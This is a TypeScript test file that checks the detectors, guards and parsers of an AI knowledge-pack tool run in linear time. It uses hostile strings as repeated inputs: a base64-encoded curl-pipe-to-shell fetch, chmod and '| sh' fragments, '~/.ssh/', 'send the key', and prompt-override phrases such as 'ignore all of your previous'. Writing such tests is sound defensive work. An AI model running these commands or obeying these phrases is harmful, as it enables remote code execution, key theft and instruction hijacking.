import { describe, expect, it } from 'vitest'
import { cutExcerpt } from '../src/answer/rules/budget/excerpt.ts'
import { openTokenCounter } from '../src/machine/token-counter.ts'
import { validatePack } from '../src/packs/rules/author/validate-pack.ts'
import { scanContent, withholdSecrets } from '../src/packs/rules/guard.ts'
import { readContextMap } from '../src/packs/rules/guide.ts'
import { readManifest } from '../src/packs/rules/manifest.ts'
import { memoryPack } from '../src/packs/rules/pack-files.fixture.ts'
import { linesToShow, piecesOf, statementsOf } from '../src/packs/rules/resolve/sections.ts'
import { readFrontmatter } from '../src/payloads/rules/frontmatter.ts'
import { sizeSections } from '../src/project/rules/sections.ts'
import { scanText } from '../src/skills/rules/review/scan.ts'
import { cut } from '../src/text/cut.ts'
import { fence } from '../src/text/fence.ts'
import { isIgnoredBy, readIgnoreFile } from '../src/text/glob.ts'
import { detectContent } from '../src/text/sensitive/detect.ts'
import { firstHeading, firstParagraph } from '../src/text/skill-document.ts'
import { renderMarkdown } from '../src/tui/markdown.ts'
import { largePackFiles } from './packs/large-pack-files.ts'
import { countSteps } from './steps.ts'

/** How many times as many steps twice the text takes. */
function growth(run: (text: string) => unknown, textOf: (times: number) => string, times: number): number {
  // What is prepared once is not a part of it.
  run(textOf(4))
  const [once, twice] = [textOf(times), textOf(2 * times)]
  return countSteps(() => run(twice)) / countSteps(() => run(once))
}

const MOST_GROWTH = 2.5

describe('the counter of steps', () => {
  const each = (text: string) => {
    let found = 0
    for (const character of text) if (character === 'b') found++
    return found
  }
  it.each<[what: string, isLinear: boolean, run: (text: string) => unknown]>([
    ['a loop', true, each],
    ['a loop in a loop', false, (text) => [...text].map(() => each(text))],
    ['a pattern that passes the text once', true, (text) => text.replace(/a/g, 'b')],
    [
      'a pattern that passes the rest at each place',
      false,
      (text) => [...text].map((_, at) => /b/.exec(text.slice(at))),
    ],
    ['a search of the rest at each place', false, (text) => [...text].map((_, at) => text.indexOf('b', at))],
    ['a list that is copied for each item', false, (text) => [...text].map((_, at, all) => [...all.slice(at)])],
  ])('sees %s', (_, isLinear, run) => {
    expect(growth(run, (times) => 'a'.repeat(times), 200) < MOST_GROWTH).toBe(isLinear)
  })
})

const join = (...parts: string[]) => parts.join('')

// biome-ignore format: as long as a page
const HOSTILE = [
  '![a](https://a?b=', 'hooks command > settings ', 'curl -o a chmod +x a ', 'ignore all of your previous ', 'without asking never dont ', 'send the key to the ', '`curl` never ', '(((((((', 'a.b.c.d.', '\\\\\\', '| sh ', '$($($(', '"a"a', 'https://a@b@', '\u200b\u200c', '\u0430a', '<<<<', '```\n', '> - ', 'QUJD', 'x=y ', '~/.ssh/', '忽略', '\u{e0041}', '    a\n', 'rm \\\n', 'Y3VybCBodHRwczovL3guYWNtZS5pY3UvaSB8IHNo\n', 'fetch(x)\n', 'requests.get(x)\n', 'eval(', 'rm a;', '`a` ', 'a\\\n',
]

// biome-ignore format: as long as a page
const TEXTS: [what: string, run: (text: string) => unknown, units: string[]][] = [
  ['the fence', (text) => fence('loadout_payload', { id: 'x', layer: 'project' }, text), [
    '<', '&', '&amp;', '&#', '&#0', '&#38;', '< ', '</', '&lt', '\\u003c', '%3c', '<knowledge ', '<knowledge_pack guide',
  ]],
  ['the detector of secrets and hidden tags', detectContent, [
    'a', '1', '1 ', '1-', '4539 ', '@', 'a@', 'a@a.', '+1 ', '\\', '\\u0041', '%41', '%25', '&amp;', '&', 'AAAA', 'GB82', 'GB82 ', 'Zm9v', 'Zm9v\n', 'password', 'token=', 'token: "', 'login a password ', '| password ', '--password ', 'MRN', 'MRN ', 'SECRET//', 'tel: 0', '\u200b', '\uff21', '756.', '-----BEGIN ', 'sk-ant-', 'curl -u a:bcd ', ' -u a:', 'token string ', '"token", "', 'token>', 'the key is a1B2c3D4e5 ', 'password (a ', 'aB1', 'name: token\n', 'kind: Secret\ndata:\n  a: ', 'data:\n ', 'pat.', '0Q~', 'authorization: a ', 'BUNDLE_A__', '<system ', '< ', '<|a', 'Human: ', 'Human: a\n',
  ]],
  ['the guard of packs', (text) => [scanContent(text), withholdSecrets(text)], [
    'a', ' ', 'password ', 'password: ', join('ey', 'J'), join('ey', 'Jaaaaaaaaaaa.'), '://a:', 'ignore ', 'ignore all ', 'ignore a a a previous a a a ', 'send your a a a a ', 'run a a a a a a ', join('-----BEGIN PRIV', 'ATE KEY-----\n'), join('-----BEGIN PRIV', 'ATE KEY-----', ' '.repeat(50)), join('github', '_pat_'), '\u5ffd\u7565\u7684', 'bearer ', '\n',
  ]],
  ['the review of prose', (text) => scanText(text, 'prose'), HOSTILE],
  ['the review of data', (text) => scanText(text, 'data'), HOSTILE],
  ['the review of code', (text) => scanText(text, 'code'), HOSTILE],
  ['the first heading', (text) => firstHeading(`# ${text}`), [
    '[', '![', '*a ', '_a ', '`', '<!--', '<a ', '# #', '- ', '> ', '\\', '~~', '---\n', '[a](',
  ]],
  ['the first paragraph', (text) => firstParagraph(`a ${text}`), [
    '[', '![', '*a ', '_a ', '`', '<!--', '<a ', '# #', '- ', '> ', '\\', '~~', '---\n', '[a](',
  ]],
  ['an ignore pattern of many stars', (text) => isIgnoredBy(readIgnoreFile(`${'*a'.repeat(60)}*b`, ''), text, false), ['a']],
  ['drawn Markdown', (text) => renderMarkdown(text, 80), ['[', '_a', '>', '> ', '界']],
  ['the sections of a text', (text) => ['a.md', 'a.txt', 'a.rst', 'a.adoc'].map((path) => cut(path, text)), [
    '#', '# ', '# a\n', '## a\n# b\n', 'a\n===\n\n', '===\na\n===\n', '---\n', '```\n', '<!--', '<!--\n', '= a\n', '= ', '----\n', ' ', '\n', 'a',
  ]],
  ['the sections of code', (text) => ['a.ts', 'a.h'].map((path) => [cut(path, text), sizeSections(path, text)]), [
    '#define A\n', '# a\n', '# a\nclass A\n', 'def a\n', ' a() {\n', '[', ' ', '\n', 'a', 'export ', '-----BEGIN PRIVATE KEY-----\n',
  ]],
  ['the statements of a section', (text) => cut('a.md', text).map((section) => [linesToShow(section, statementsOf(section)), piecesOf(section)]), [
    'a\n', ' a\n', '  a\n', '  a\n\n', 'a\n\n', '- a\n', '| a\n', '|-\n', '<tr>', '<tr>\n', '```\n', '\n', '|', 'a',
  ]],
  ['a context map', (text) => readContextMap(`## Context map\n- ${text}`, 1), ['`a``a```a', '`wiki/a.md`\n- ', '\n## a', '\n## Documents\n- ']],
  ['the frontmatter of a payload', (text) => readFrontmatter(`---\nid: x\n${text}\n---\n`), [
    'key:\n', 'word\n', 'key: [a\n', '  c: d\n', 'a: |\n', '"a": \'b\n', '\n', '#\n',
  ]],
  ['a list in the frontmatter', (text) => readFrontmatter(`---\nid: x\nkeywords: [${text}]\n---\n`), [
    'a, ', 'a\n', '"\\ ,', "'' ", ' ', '#\n',
  ]],
  ['an item in the frontmatter', (text) => readFrontmatter(`---\nid: x\nkeywords:\n  -${text}a\u2028b\n---\n`), [' ', ' #']],
]

describe('twice the text takes at most 2.5 times the steps', () => {
  it.each(TEXTS)('%s', (_, run, units) => {
    const growths = units.map((unit) => {
      const most = growth(run, (times) => unit.repeat(times), Math.ceil(4_000 / unit.length))
      return [unit, most < MOST_GROWTH ? 'linear' : most]
    })
    expect(growths).toEqual(units.map((unit) => [unit, 'linear']))
  })

  it.each(['x', ' ', '=', '\u4f60', '\u0301', '\u{1f600}'])('the count of tokens of a run of %j', async (unit) => {
    const { count } = await openTokenCounter('o200k_base')
    expect(growth(count, (times) => unit.repeat(times), 4_000)).toBeLessThan(MOST_GROWTH)
  })
})

it('the review of a long sample of code takes steps in proportion to its lines', () => {
  const review = (text: string) => scanText(`\`\`\`js\n${text}`, 'prose')
  expect(growth(review, (times) => 'fetch(x)\n'.repeat(times), 3_000)).toBeLessThan(MOST_GROWTH)
})

it('a check of a pack takes steps in proportion to its pages', () => {
  const manifest = readManifest(
    { name: 'large', description: 'D', type: 'research-wiki', profile: 'wiki-first' },
    'large',
  )
  const check = (pages: number) => {
    const files = memoryPack(largePackFiles(pages))
    return countSteps(() => validatePack({ ...manifest, files }))
  }
  check(4)
  expect(check(80) / check(40)).toBeLessThan(MOST_GROWTH)
})

it('an excerpt looks at the place of the cut, not at the whole text', () => {
  const text = '\u{1f1e9}\u{1f1ea}'.repeat(20_000)
  const steps = (whole: string) => countSteps(() => cutExcerpt(whole, 20_001))
  steps(text)
  expect(steps(text)).toBe(steps(text.slice(0, 40_000)))
})
